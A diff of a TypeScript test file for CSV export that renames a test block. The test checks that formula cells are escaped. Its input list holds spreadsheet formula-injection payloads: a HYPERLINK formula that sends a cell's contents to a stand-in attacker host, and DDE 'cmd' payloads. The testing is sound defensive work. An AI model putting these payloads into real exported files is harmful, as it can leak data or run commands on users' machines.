@@ -8,7 +8,7 @@ import { csvFile, tabbed, unguarded, writeCsv } from './tables.ts'
 
 const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|x!A0', '-cmd|x!A0', '@SUM(1)', ' =1+1', '＝1+1', '\t=1+1', '\r=1+1']
 
-describe('a table that leaves the house', () => {
+describe('an exported table', () => {
   it('escapes formulas in comma-separated cells', () => {
     for (const formula of formulas) {
       const cell = writeCsv([['x', formula]]).replace(/^x,"?/, '')
